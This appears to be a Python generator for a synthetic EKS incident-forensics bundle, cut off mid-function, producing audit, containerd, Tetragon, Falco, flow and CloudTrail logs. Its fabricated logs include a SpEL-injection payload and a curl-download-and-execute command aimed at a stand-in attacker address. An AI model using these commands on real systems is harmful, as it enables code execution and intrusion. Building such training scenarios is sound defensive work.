#!/usr/bin/env python3
"""Writes the EKS incident scenario bundle (bundle/ next to this script); see README.md for the story and each
file's provenance. Deterministic: same output on every run. Run: python3 make_eks_scenario.py"""
import calendar, json, os, shutil, subprocess, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
DAY = "2026-11-22"

def ts(hms, frac=0):  # ISO-8601 UTC with nanoseconds
    return "%sT%s.%09dZ" % (DAY, hms, frac)

def epoch(hms, frac_ns=0):
    return calendar.timegm(time.strptime(DAY + "T" + hms, "%Y-%m-%dT%H:%M:%S")) + frac_ns / 1e9

# ------------------------------------------------------------------------------------------------------ entities
ACCT, ACCT_STAGE = "111111111111", "222222222222"
VPC, VPC_STAGE = "vpc-0e1a2b3c4d5e6f701", "vpc-0f9e8d7c6b5a4f302"
NODE, NODE_STAGE = "ip-10-0-3-41.ec2.internal", "ip-10-0-3-77.ec2.internal"
INSTANCE, INSTANCE_STAGE = "i-0a41b2c3d4e5f6a78", "i-0b77c2d3e4f5a6b79"
ENI, ENI_STAGE = "eni-0c41aa00000000001", "eni-0d77bb00000000002"
POD_IP = "10.0.3.25"
ATTACKER = "203.0.113.66"
POD, POD_UID, SA = "checkout-7c9d8f6b5-k2x7p", "5b0f7e3a-41a2-4c1e-9a7d-2f6c1e0b9a11", "checkout"
SANDBOX = "5a1d" + "0e" * 30
CTR = "c1ec" + "4b" * 30
DIGEST = "sha256:" + "9c1e" * 16
IMAGE = "111111111111.dkr.ecr.us-east-1.amazonaws.com/checkout"
CART, CART_UID = "cart-5b6c7d8e9-q4w5e", "8d2e6f4a-77b1-4f0e-8c3d-5e9a0b1c2d33"
SANDBOX2 = "5a2d" + "1f" * 30
CTR2 = "ca2e" + "7d" * 30
DIGEST2 = "sha256:" + "ca27" * 16
ROLE = "arn:aws:iam::111111111111:role/checkout-irsa"
SESSION_NAME = "botocore-session-1795424040"
SESSION = "arn:aws:sts::111111111111:assumed-role/checkout-irsa/" + SESSION_NAME
KEY = "ASIAEKSCHECKOUT00001"
STAGE_POD, STAGE_UID = "report-gen-28472910-x8k2m", "3c4d5e6f-0a1b-4c2d-8e3f-4a5b6c7d8e9f"
# neighbours on the same node: a noisy one whose evidence must stay out of the incident, and one that connects to the
# attacker's address (it comes in through that address); the latter runs with EKS Pod Identity credentials
INV, INV_UID, INV_IP = "inventory-6f7d8c9b4-n3p5r", "9a1b2c3d-4e5f-4a6b-8c7d-0e1f2a3b4c5d", "10.0.3.31"
INV_SANDBOX, INV_CTR, INV_DIGEST = "5a3d" + "2a" * 30, "1b7e" + "3c" * 30, "sha256:" + "1b7e" * 16
INV_IMAGE = "111111111111.dkr.ecr.us-east-1.amazonaws.com/inventory"
REC, REC_UID, REC_IP = "recommender-5d4c3b2a1-w9x8y", "7c6b5a49-3827-4615-9a0b-1c2d3e4f5a6b", "10.0.3.44"
REC_SANDBOX, REC_CTR, REC_DIGEST = "5a4d" + "3b" * 30, "4ec0" + "5d" * 30, "sha256:" + "4ec0" * 16
REC_IMAGE = "111111111111.dkr.ecr.us-east-1.amazonaws.com/recommender"
REC_ROLE = "arn:aws:iam::111111111111:role/recommender-podid"
REC_SESSION_NAME = "eks-prod-eks-recommende-2f9e1c3a-5b7d-4e8f-9a0b-1c2d3e4f5a6b"
REC_SESSION = "arn:aws:sts::111111111111:assumed-role/recommender-podid/" + REC_SESSION_NAME
REC_KEY = "ASIAEKSRECOMMENDER01"
NODE_ROLE = "arn:aws:iam::111111111111:role/prod-eks-node-role"

def write(rel, text):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)

def jl(records):
    return "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in records)

# ----------------------------------------------------------------------------------------------- Kubernetes audit
_audit_n = [0]
def audit(t, verb, uri, user, groups, source_ip, obj_ref, code=200, request=None, response=None, ua="kubectl/v1.30.4"):
    _audit_n[0] += 1
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
         "auditID": "e5c0a0d1-0000-4000-8000-%012d" % _audit_n[0], "stage": "ResponseComplete",
         "requestURI": uri, "verb": verb, "user": {"username": user, "groups": groups},
         "sourceIPs": [source_ip], "userAgent": ua, "objectRef": obj_ref, "responseStatus": {"metadata": {}, "code": code}}
    if request is not None: e["requestObject"] = request
    if response is not None: e["responseObject"] = response
    e["requestReceivedTimestamp"] = ts(t, 0)[:-4] + "Z"
    e["stageTimestamp"] = ts(t, 0)[:-4] + "Z"
    return e

KUBELET = ("system:node:" + NODE, ["system:nodes", "system:authenticated"])

def pod_obj(ns, name, uid, sa, node, ip, cid, image, digest, cname, state, phase="Running", deletion=None, grace=None):
    meta = {"name": name, "namespace": ns, "uid": uid}
    if deletion: meta["deletionTimestamp"] = deletion; meta["deletionGracePeriodSeconds"] = grace
    status = {"phase": phase}
    if node: status["hostIP"] = node_ip(node)
    if node and name == POD: status["startTime"] = DAY + "T09:00:01Z"  # when the kubelet acknowledged the pod
    if node and name == CART: status["startTime"] = DAY + "T10:35:01Z"
    if node and name in (INV, REC): status["startTime"] = DAY + "T09:00:35Z"
    if ip: status["podIP"] = ip; status["podIPs"] = [{"ip": ip}]
    if cid:
        status["containerStatuses"] = [{"name": cname, "containerID": "containerd://" + cid, "image": image + ":v2.3.1",
                                        "imageID": image + "@" + digest, "ready": "running" in state, "state": state}]
    container = {"name": cname, "image": image + ":v2.3.1"}
    if sa == SA:  # IRSA: what EKS's pod identity webhook injects into the pod of an annotated service account
        container["env"] = [{"name": "AWS_STS_REGIONAL_ENDPOINTS", "value": "regional"},
                            {"name": "AWS_DEFAULT_REGION", "value": "us-east-1"}, {"name": "AWS_REGION", "value": "us-east-1"},
                            {"name": "AWS_ROLE_ARN", "value": ROLE},
                            {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"}]
        container["volumeMounts"] = [{"name": "aws-iam-token", "readOnly": True, "mountPath": "/var/run/secrets/eks.amazonaws.com/serviceaccount"}]
    return {"kind": "Pod", "apiVersion": "v1", "metadata": meta,
            "spec": {"nodeName": node, "serviceAccountName": sa, "containers": [container]},
            "status": status}

def node_ip(node):
    return node.split(".")[0][3:].replace("-", ".")

def prod_audit():
    ref = lambda name, sub=None: dict({"resource": "pods", "namespace": "web", "name": name, "apiVersion": "v1"}, **({"subresource": sub} if sub else {}))
    ev = []
    ev.append(audit("08:55:00", "patch", "/api/v1/nodes/%s/status" % NODE, *KUBELET, node_ip(NODE),
                    {"resource": "nodes", "name": NODE, "apiVersion": "v1", "subresource": "status"}, ua="kubelet/v1.30.4-eks",
                    response={"kind": "Node", "apiVersion": "v1", "metadata": {"name": NODE, "uid": "0d41aa00-0000-4000-8000-000000000041"},
                              "spec": {"providerID": "aws:///us-east-1a/" + INSTANCE}}))
    ev.append(audit("09:00:00", "create", "/api/v1/namespaces/web/pods", "system:serviceaccount:kube-system:replicaset-controller",
                    ["system:serviceaccounts", "system:authenticated"], "10.0.0.10", ref(None) | {"name": POD}, code=201,
                    ua="kube-controller-manager/v1.30.4-eks",
                    response=pod_obj("web", POD, POD_UID, SA, None, None, None, IMAGE, DIGEST, "checkout", {}, phase="Pending")))
    ev.append(audit("09:00:04", "patch", "/api/v1/namespaces/web/pods/%s/status" % POD, *KUBELET, node_ip(NODE), ref(POD, "status"),
                    ua="kubelet/v1.30.4-eks",
                    response=pod_obj("web", POD, POD_UID, SA, NODE, POD_IP, CTR, IMAGE, DIGEST, "checkout",
                                     {"running": {"startedAt": DAY + "T09:00:03Z"}})))
    # the kubelet's TokenRequest for the pod's projected IRSA token (the aws-iam-token volume: audience
    # sts.amazonaws.com, 86400 s, bound to the Pod), at audit level Request (the request body, never the token), with
    # the issued token's id (Kubernetes 1.29+ audit annotation)
    tr = audit("09:00:02", "create", "/api/v1/namespaces/web/serviceaccounts/%s/token" % SA, *KUBELET, node_ip(NODE),
               {"resource": "serviceaccounts", "namespace": "web", "name": SA, "apiVersion": "v1", "subresource": "token"},
               code=201, ua="kubelet/v1.30.4-eks",
               request={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
                        "spec": {"audiences": ["sts.amazonaws.com"], "expirationSeconds": 86400,
                                 "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": POD, "uid": POD_UID}},
                        "status": {"token": "", "expirationTimestamp": None}})
    tr["level"] = "Request"
    tr["annotations"] = {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "",
                         "authentication.kubernetes.io/issued-credential-id": "JTI=c4ec0a7d-0000-4000-8000-000000000001"}
    ev.append(tr)
    for name, uid, sa, ip, cid, image, digest, cname in ((INV, INV_UID, "inventory", INV_IP, INV_CTR, INV_IMAGE, INV_DIGEST, "inventory"),
                                                         (REC, REC_UID, "recommender", REC_IP, REC_CTR, REC_IMAGE, REC_DIGEST, "recommender")):
        ev.append(audit("09:00:40", "patch", "/api/v1/namespaces/web/pods/%s/status" % name, *KUBELET, node_ip(NODE), ref(name, "status"),
                        ua="kubelet/v1.30.4-eks",
                        response=pod_obj("web", name, uid, sa, NODE, ip, cid, image, digest, cname,
                                         {"running": {"startedAt": DAY + "T09:00:38Z"}})))
    # an exec into the pod from the attacker's address with a CI identity's kubeconfig
    ev.append(audit("10:12:00", "create", "/api/v1/namespaces/web/pods/%s/exec?command=sh&container=checkout&stdin=true&stdout=true&tty=true" % POD,
                    "ci-deployer", ["deployers", "system:authenticated"], ATTACKER, ref(POD, "exec"), code=101))
    # the pod's service account reads a secret (its token, from inside the pod)
    ev.append(audit("10:13:00", "get", "/api/v1/namespaces/web/secrets/checkout-db", "system:serviceaccount:web:" + SA,
                    ["system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated"], POD_IP,
                    {"resource": "secrets", "namespace": "web", "name": "checkout-db", "apiVersion": "v1"}, ua="curl/8.5.0"))
    # deleted with a 30 s grace period; its container terminated at 10:30:11; the kubelet's final delete
    ev.append(audit("10:30:00", "delete", "/api/v1/namespaces/web/pods/" + POD, "oncall-alice", ["sre", "system:authenticated"],
                    "10.0.0.50", ref(POD), request={"kind": "DeleteOptions", "apiVersion": "v1", "gracePeriodSeconds": 30},
                    response=pod_obj("web", POD, POD_UID, SA, NODE, POD_IP, CTR, IMAGE, DIGEST, "checkout",
                                     {"running": {"startedAt": DAY + "T09:00:03Z"}}, deletion=DAY + "T10:30:30Z", grace=30)))
    ev.append(audit("10:30:12", "patch", "/api/v1/namespaces/web/pods/%s/status" % POD, *KUBELET, node_ip(NODE), ref(POD, "status"),
                    ua="kubelet/v1.30.4-eks",
                    response=pod_obj("web", POD, POD_UID, SA, NODE, POD_IP, CTR, IMAGE, DIGEST, "checkout",
                                     {"terminated": {"exitCode": 143, "reason": "Error", "startedAt": DAY + "T09:00:03Z",
                                                     "finishedAt": DAY + "T10:30:11Z", "containerID": "containerd://" + CTR}},
                                     phase="Failed", deletion=DAY + "T10:30:30Z", grace=30)))
    ev.append(audit("10:30:13", "delete", "/api/v1/namespaces/web/pods/" + POD, *KUBELET, node_ip(NODE), ref(POD),
                    request={"kind": "DeleteOptions", "apiVersion": "v1", "gracePeriodSeconds": 0},
                    ua="kubelet/v1.30.4-eks",
                    response=pod_obj("web", POD, POD_UID, SA, NODE, POD_IP, CTR, IMAGE, DIGEST, "checkout",
                                     {"terminated": {"exitCode": 143, "reason": "Error", "startedAt": DAY + "T09:00:03Z",
                                                     "finishedAt": DAY + "T10:30:11Z", "containerID": "containerd://" + CTR}},
                                     phase="Failed", deletion=DAY + "T10:30:13Z", grace=0)))
    # the address given to the next pod
    ev.append(audit("10:35:05", "patch", "/api/v1/namespaces/web/pods/%s/status" % CART, *KUBELET, node_ip(NODE), ref(CART, "status"),
                    ua="kubelet/v1.30.4-eks",
                    response=pod_obj("web", CART, CART_UID, "cart", NODE, POD_IP, CTR2, "111111111111.dkr.ecr.us-east-1.amazonaws.com/cart",
                                     DIGEST2, "cart", {"running": {"startedAt": DAY + "T10:35:04Z"}})))
    return jl(ev)

def stage_audit():
    return jl([audit("08:30:00", "patch", "/api/v1/namespaces/batch/pods/%s/status" % STAGE_POD, "system:node:" + NODE_STAGE,
                     ["system:nodes", "system:authenticated"], node_ip(NODE_STAGE),
                     {"resource": "pods", "namespace": "batch", "name": STAGE_POD, "apiVersion": "v1", "subresource": "status"},
                     ua="kubelet/v1.30.4-eks",
                     response=pod_obj("batch", STAGE_POD, STAGE_UID, "report-gen", NODE_STAGE, POD_IP, "b7a6" + "3c" * 30,
                                      "222222222222.dkr.ecr.us-east-1.amazonaws.com/report-gen", "sha256:" + "b7a6" * 16,
                                      "report", {"running": {"startedAt": DAY + "T08:29:58Z"}}))])

# -------------------------------------------------------------------------------------- containerd (journalctl)
def journal_line(t_hms, frac_us, level, msg, extra=""):
    e = epoch(t_hms, frac_us * 1000)
    short = time.strftime("%b %d %H:%M:%S", time.gmtime(e))
    logfmt_msg = msg.replace("\\", "\\\\").replace('"', '\\"')
    return '%s %s containerd[2741]: time="%s" level=%s msg="%s"%s\n' % (short, NODE, ts(t_hms, frac_us * 1000), level, logfmt_msg,
                                                                     (" " + extra) if extra else "")

def containerd_log():
    L = []
    def add(t, us, level, msg, extra=""):
        L.append(journal_line(t, us, level, msg, extra))
    def sandbox(t, name, uid, sid, ip):
        meta = "&PodSandboxMetadata{Name:%s,Uid:%s,Namespace:web,Attempt:0,}" % (name, uid)
        add(t, 100000, "info", "RunPodSandbox for " + meta)
        add(t, 200000, "debug", 'generated id for sandbox name "%s_web_%s_0"' % (name, uid), "podsandboxid=" + sid)
        add(t, 300000, "debug", "begin cni setup", "podsandboxid=" + sid)
        cni = {"Interfaces": {"eni4a1b2c3d4e5": {"IPConfigs": None, "Mac": "7e:d2:1a:00:00:01", "Sandbox": ""},
                              "eth0": {"IPConfigs": [{"IP": ip, "Gateway": "169.254.1.1"}], "Mac": "0a:58:0a:00:03:19",
                                       "Sandbox": "/var/run/netns/cni-%s" % sid[:8]}},
               "DNS": [{}], "Routes": [{"dst": "0.0.0.0/0"}]}
        add(t, 600000, "debug", "cni result: " + json.dumps(cni, separators=(",", ":")), "podsandboxid=" + sid)
        add(t, 900000, "info", 'RunPodSandbox for %s returns sandbox id "%s"' % (meta, sid))
    def noise(t_from_s, count, step_s, ctr):
        # the kubelet's exec probes at debug level: what fills a busy node's containerd log between events
        for i in range(count):
            s = t_from_s + i * step_s
            hms = time.strftime("%H:%M:%S", time.gmtime(int(s)))
            us = int(round((s - int(s)) * 1e6))
            cid = ctr if ctr else "%04x" % (0xd000 + i) + "e1" * 30  # other pods' containers
            add(hms, us, "debug", "ExecSync for \"%s\" with command [/bin/grpc_health_probe -addr=:8080] and timeout 1 (s)" % cid, "")
            add(hms, us + 20000, "debug", "ExecSync for \"%s\" returns with exit code 0" % cid, "")
    sandbox("09:00:01", POD, POD_UID, SANDBOX, POD_IP)
    for t, name, uid, sid, ip, cid, cname in (("09:00:35", INV, INV_UID, INV_SANDBOX, INV_IP, INV_CTR, "inventory"),
                                              ("09:00:36", REC, REC_UID, REC_SANDBOX, REC_IP, REC_CTR, "recommender")):
        sandbox(t, name, uid, sid, ip)
        add(t, 950000, "info", 'CreateContainer within sandbox "%s" for &ContainerMetadata{Name:%s,Attempt:0,} returns container id "%s"' % (sid, cname, cid))
        add(t, 970000, "info", 'StartContainer for "%s" returns successfully' % cid)
    noise(epoch("09:00:02"), 20, 0.04, None)  # 20 other pods' probes in the next second: > 4 KiB of log
    add("09:00:02", 100000, "info", 'PullImage "%s:v2.3.1"' % IMAGE)
    add("09:00:02", 900000, "info", 'PullImage "%s:v2.3.1" returns image reference "sha256:%s"' % (IMAGE, "1d" * 32))
    add("09:00:03", 0, "info", 'CreateContainer within sandbox "%s" for container &ContainerMetadata{Name:checkout,Attempt:0,}' % SANDBOX)
    add("09:00:03", 200000, "info", 'CreateContainer within sandbox "%s" for &ContainerMetadata{Name:checkout,Attempt:0,} returns container id "%s"' % (SANDBOX, CTR))
    add("09:00:03", 300000, "info", 'StartContainer for "%s"' % CTR)
    add("09:00:03", 600000, "info", 'StartContainer for "%s" returns successfully' % CTR)
    noise(epoch("09:00:10"), 40, 20, CTR)  # its own probes
    noise(epoch("10:10:05"), 12, 30, INV_CTR)  # the noisy neighbour's probes during the incident
    # the exploit's children exit (an exec's exit is not the container's end)
    add("10:12:40", 0, "info", 'TaskExit event container_id:"%s" id:"%s" pid:31990 exit_status:0 exited_at:{seconds:%d nanos:0}'
        % (CTR, "7e57" + "ab" * 30, int(epoch("10:12:40"))))
    add("10:30:00", 200000, "info", 'StopContainer for "%s" with timeout 30 (s)' % CTR)
    add("10:30:11", 100000, "info", 'received exit event container_id:"%s" id:"%s" pid:4123 exit_status:143 exited_at:{seconds:%d nanos:0}'
        % (CTR, CTR, int(epoch("10:30:11"))))
    add("10:30:11", 110000, "info", 'TaskExit event container_id:"%s" id:"%s" pid:4123 exit_status:143 exited_at:{seconds:%d nanos:0}'
        % (CTR, CTR, int(epoch("10:30:11"))))
    add("10:30:11", 500000, "info", 'StopContainer for "%s" returns successfully' % CTR)
    add("10:30:11", 600000, "info", 'StopPodSandbox for "%s"' % SANDBOX)
    add("10:30:12", 0, "info", 'TaskExit event in podsandbox handler container_id:"%s" id:"%s" pid:4001 exit_status:137 exited_at:{seconds:%d nanos:900000000}'
        % (SANDBOX, SANDBOX, int(epoch("10:30:11"))))
    add("10:30:12", 300000, "info", 'StopPodSandbox for "%s" returns successfully' % SANDBOX)
    add("10:30:13", 500000, "info", 'RemoveContainer for "%s" returns successfully' % CTR)
    add("10:30:13", 800000, "info", 'RemovePodSandbox "%s" returns successfully' % SANDBOX)
    sandbox("10:35:01", CART, CART_UID, SANDBOX2, POD_IP)
    add("10:35:03", 0, "info", 'CreateContainer within sandbox "%s" for container &ContainerMetadata{Name:cart,Attempt:0,}' % SANDBOX2)
    add("10:35:03", 200000, "info", 'CreateContainer within sandbox "%s" for &ContainerMetadata{Name:cart,Attempt:0,} returns container id "%s"' % (SANDBOX2, CTR2))
    add("10:35:03", 300000, "info", 'StartContainer for "%s"' % CTR2)
    add("10:35:04", 0, "info", 'StartContainer for "%s" returns successfully' % CTR2)
    L.sort(key=lambda line: line.split('time="', 1)[1][:30])  # journalctl's order: by time
    return "".join(L)

# ------------------------------------------------------------------------------------------------------- CRI logs
def cri_checkout():
    return "".join([
        ts("09:00:04", 120000000) + " stdout F Started CheckoutApplication in 0.912 seconds (process running for 1.2)\n",
        ts("10:09:55", 310000000) + " stdout F 10.0.3.25 - - \"POST /api/render HTTP/1.1\" 500 template=${T(java.lang.Runtime).getRuntime().exec('sh -c curl${IFS}-s${IFS}http://" + ATTACKER + "/k|sh')} remote=" + ATTACKER + "\n",
        ts("10:09:55", 312000000) + " stderr P org.springframework.expression.spel.SpelEvaluationException: EL1001E: Type conversion problem, \n",
        ts("10:09:55", 312000500) + " stderr F cannot convert from java.lang.ProcessImpl to java.lang.String\n",
        ts("10:30:00", 400000000) + " stdout F Commencing graceful shutdown. Waiting for active requests to complete\n",
    ])

def cri_inventory():
    return "".join(ts(hms, 0) + " stdout F GET /api/stock/%d 200 3ms\n" % i
                   for i, hms in enumerate(["10:10:00", "10:11:00", "10:14:00", "10:17:30", "10:21:00"]))

def cri_recommender():
    return ts("10:20:00", 0) + " stdout F fetching model update from http://%s/m.bin\n" % ATTACKER

def cri_cart():
    return ts("10:35:05", 0) + " stdout F cart service listening on :8080\n" + ts("10:40:00", 0) + " stdout F GET /api/cart/42 200\n"

# ------------------------------------------------------------------------------------------------------- Tetragon
def tproc(exec_id, pid, binary, args, t_start, with_pod, parent_exec=None, ctr=CTR, pod=POD, image=IMAGE, digest=DIGEST, cname="checkout"):
    p = {"exec_id": exec_id, "pid": pid, "uid": 1000, "cwd": "/app", "binary": binary, "arguments": args,
         "flags": "execve clone", "start_time": t_start, "auid": 4294967295}
    if with_pod:
        p["pod"] = {"namespace": "web", "name": pod,
                    "container": {"id": "containerd://" + ctr, "name": cname, "image": {"id": image + "@" + digest, "name": image + ":v2.3.1"},
                                  "start_time": DAY + "T09:00:03Z", "pid": 1},
                    "pod_labels": {"app": cname}, "workload": cname, "workload_kind": "Deployment"}
    p["docker"] = ctr[:31]  # what Tetragon reads from the cgroup path (the container id, truncated)
    if parent_exec: p["parent_exec_id"] = parent_exec
    return p

def tetragon():
    java = tproc("aXAtMTAtMC0zLTQxOjQxMjM=", 4123, "/usr/bin/java", "-jar /app/checkout.jar", ts("09:00:03", 500000000), True)
    sh = tproc("aXAtMTAtMC0zLTQxOjMxOTkw", 31990, "/bin/sh", "-c \"curl -s http://%s/k -o /tmp/.kworker && chmod +x /tmp/.kworker && /tmp/.kworker\"" % ATTACKER,
               ts("10:09:55", 400000000), True, java["exec_id"])
    curl = tproc("aXAtMTAtMC0zLTQxOjMxOTkx", 31991, "/usr/bin/curl", "-s http://%s/k -o /tmp/.kworker" % ATTACKER,
                 ts("10:09:55", 500000000), False, sh["exec_id"])
    kw = tproc("aXAtMTAtMC0zLTQxOjMxOTk0", 31994, "/tmp/.kworker", "", ts("10:09:57", 0), True, sh["exec_id"])
    py = tproc("aXAtMTAtMC0zLTQxOjUxMDA=", 5100, "/usr/local/bin/python3", "/srv/cart/app.py", ts("10:36:00", 0), True, None,
               ctr=CTR2, pod=CART, image="111111111111.dkr.ecr.us-east-1.amazonaws.com/cart", digest=DIGEST2, cname="cart")
    inv = tproc("aXAtMTAtMC0zLTQxOjYyMDA=", 6200, "/usr/local/bin/python3", "/srv/inventory/sync.py --full", ts("10:11:00", 0), True, None,
                ctr=INV_CTR, pod=INV, image=INV_IMAGE, digest=INV_DIGEST, cname="inventory")
    rec = tproc("aXAtMTAtMC0zLTQxOjcxMDA=", 7100, "/usr/bin/curl", "-s http://%s/m.bin -o /tmp/m.bin" % ATTACKER, ts("10:20:00", 100000000), True, None,
                ctr=REC_CTR, pod=REC, image=REC_IMAGE, digest=REC_DIGEST, cname="recommender")
    # a responder on the node itself (outside any container): node-level evidence
    host = {"exec_id": "aXAtMTAtMC0zLTQxOjkwMDE=", "pid": 9001, "uid": 0, "cwd": "/root", "binary": "/usr/local/bin/crictl",
            "arguments": "ps -a", "flags": "execve", "start_time": ts("10:25:00", 0), "auid": 1000}
    strip = lambda p: {k: v for k, v in p.items() if k != "pod"}
    ev = [
        {"process_exec": {"process": sh, "parent": java}, "node_name": NODE, "time": ts("10:09:55", 400100000), "cluster_name": "prod-eks"},
        # Tetragon had no pod for this one (its pod cache missed it): only the cgroup's container id
        {"process_exec": {"process": curl, "parent": strip(sh)}, "node_name": NODE, "time": ts("10:09:55", 500100000), "cluster_name": "prod-eks"},
        {"process_kprobe": {"process": curl, "parent": strip(sh), "function_name": "tcp_connect",
                            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                                                   "saddr": POD_IP, "daddr": ATTACKER, "sport": 49152, "dport": 80}}],
                            "action": "KPROBE_ACTION_POST", "policy_name": "connect-egress"},
         "node_name": NODE, "time": ts("10:09:55", 520000000), "cluster_name": "prod-eks"},
        {"process_kprobe": {"process": curl, "parent": strip(sh), "function_name": "security_file_permission",
                            "args": [{"file_arg": {"path": "/tmp/.kworker", "permission": "-rw-r--r--"}}, {"int_arg": 2}],
                            "return": {"int_arg": 0}, "action": "KPROBE_ACTION_POST", "policy_name": "file-write-tmp"},
         "node_name": NODE, "time": ts("10:09:56", 100000000), "cluster_name": "prod-eks"},
        {"process_exit": {"process": curl, "parent": strip(sh), "status": 0, "time": ts("10:09:56", 800000000)},
         "node_name": NODE, "time": ts("10:09:56", 800000000), "cluster_name": "prod-eks"},
        {"process_exec": {"process": kw, "parent": sh}, "node_name": NODE, "time": ts("10:09:57", 100000), "cluster_name": "prod-eks"},
        {"process_kprobe": {"process": kw, "parent": sh, "function_name": "tcp_connect",
                            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                                                   "saddr": POD_IP, "daddr": ATTACKER, "sport": 49160, "dport": 443}}],
                            "action": "KPROBE_ACTION_POST", "policy_name": "connect-egress"},
         "node_name": NODE, "time": ts("10:16:30", 0), "cluster_name": "prod-eks"},
        {"process_exec": {"process": py}, "node_name": NODE, "time": ts("10:36:00", 100000), "cluster_name": "prod-eks"},
        {"process_exec": {"process": inv}, "node_name": NODE, "time": ts("10:11:00", 100000), "cluster_name": "prod-eks"},
        {"process_kprobe": {"process": inv, "function_name": "tcp_connect",
                            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                                                   "saddr": INV_IP, "daddr": "10.0.9.9", "sport": 41000, "dport": 5432}}],
                            "action": "KPROBE_ACTION_POST", "policy_name": "connect-egress"},
         "node_name": NODE, "time": ts("10:11:01", 0), "cluster_name": "prod-eks"},
        {"process_exec": {"process": rec}, "node_name": NODE, "time": ts("10:20:00", 200000), "cluster_name": "prod-eks"},
        {"process_kprobe": {"process": rec, "function_name": "tcp_connect",
                            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                                                   "saddr": REC_IP, "daddr": ATTACKER, "sport": 52000, "dport": 80}}],
                            "action": "KPROBE_ACTION_POST", "policy_name": "connect-egress"},
         "node_name": NODE, "time": ts("10:20:00", 300000000), "cluster_name": "prod-eks"},
        {"process_exec": {"process": host}, "node_name": NODE, "time": ts("10:25:00", 100000), "cluster_name": "prod-eks"},
    ]
    ev.sort(key=lambda e: e["time"])
    return jl(ev)

# ---------------------------------------------------------------------------------------------------------- Falco
def falco():
    t = ts("10:09:57", 200000000)
    return jl([{"uuid": "6d1e0c2a-0000-4000-8000-0000000e45c0",
                "output": "%s: Critical Executing binary not part of base image (proc_exe=/tmp/.kworker proc_sname=sh gparent=java container_id=%s)" % (t.replace("Z", "+0000"), CTR[:12]),
                "priority": "Critical", "rule": "Drop and execute new binary in container", "time": t,
                "output_fields": {"container.id": CTR[:12], "container.name": "<NA>", "container.image.repository": "<NA>",
                                  "evt.time": int(epoch("10:09:57", 200000000) * 1e9), "k8s.ns.name": "<NA>", "k8s.pod.name": "<NA>",
                                  "proc.cmdline": ".kworker", "proc.exepath": "/tmp/.kworker", "proc.name": ".kworker",
                                  "proc.pname": "sh", "proc.pid": 31994, "user.name": "app", "user.uid": 1000},
                "source": "syscall", "tags": ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
                "hostname": NODE}])

# ------------------------------------------------------------------------------------------------------ VPC Flow
def flows(account, eni, vpc, instance, records):
    head = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status vpc-id instance-id\n"
    out = [head]
    for src, dst, sp, dp, pk, by, start in records:
        s = int(epoch(start))
        out.append("3 %s %s %s %s %d %d 6 %d %d %d %d ACCEPT OK %s %s\n" % (account, eni, src, dst, sp, dp, pk, by, s, s + 60, vpc, instance))
    return "".join(out)

# ----------------------------------------------------------------------------------------------------- CloudTrail
def cloudtrail():
    oidc = "arn:aws:iam::111111111111:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/EXAMPLE0EKS0PROD0CLUSTER00000001"
    session_identity = {"type": "AssumedRole", "principalId": "AROAEKSCHECKOUTIRSA:" + SESSION_NAME, "arn": SESSION,
                        "accountId": ACCT, "accessKeyId": KEY,
                        "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEKSCHECKOUTIRSA", "arn": ROLE,
                                                             "accountId": ACCT, "userName": "checkout-irsa"},
                                           "webIdFederationData": {"federatedProvider": oidc, "attributes": {}},
                                           "attributes": {"creationDate": DAY + "T10:14:00Z", "mfaAuthenticated": "false"}}}
    def rec(t, source, name, ip, ua, req, resp, rid, category="Management", ro=True, extra=None, identity=None):
        r = {"eventVersion": "1.09", "userIdentity": identity or session_identity, "eventTime": DAY + "T" + t + "Z",
             "eventSource": source, "eventName": name, "awsRegion": "us-east-1", "sourceIPAddress": ip, "userAgent": ua,
             "requestParameters": req, "responseElements": resp, "requestID": "c7a1%04d-0000-4000-8000-000000000000" % rid,
             "eventID": "e7a1%04d-0000-4000-8000-000000000000" % rid, "readOnly": ro, "eventType": "AwsApiCall",
             "managementEvent": category == "Management", "recipientAccountId": ACCT, "eventCategory": category}
        if extra: r.update(extra)
        return r
    web_identity = {"type": "WebIdentityUser", "principalId": oidc + ":sts.amazonaws.com:system:serviceaccount:web:" + SA,
                    "userName": "system:serviceaccount:web:" + SA, "identityProvider": oidc}
    node_identity = {"type": "AssumedRole", "principalId": "AROAEKSNODEROLE0001:" + INSTANCE,
                     "arn": "arn:aws:sts::111111111111:assumed-role/prod-eks-node-role/" + INSTANCE, "accountId": ACCT,
                     "accessKeyId": "ASIAEKSNODE000000001",
                     "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEKSNODEROLE0001", "arn": NODE_ROLE,
                                                          "accountId": ACCT, "userName": "prod-eks-node-role"},
                                        "attributes": {"creationDate": DAY + "T08:50:00Z", "mfaAuthenticated": "false"},
                                        "ec2RoleDelivery": "2.0"}}
    tags = [("eks-cluster-arn", "arn:aws:eks:us-east-1:111111111111:cluster/prod-eks"), ("eks-cluster-name", "prod-eks"),
            ("kubernetes-namespace", "web"), ("kubernetes-service-account", "recommender"),
            ("kubernetes-pod-name", REC), ("kubernetes-pod-uid", REC_UID)]
    rec_identity = {"type": "AssumedRole", "principalId": "AROAEKSRECOMMENDER1:" + REC_SESSION_NAME, "arn": REC_SESSION,
                    "accountId": ACCT, "accessKeyId": REC_KEY,
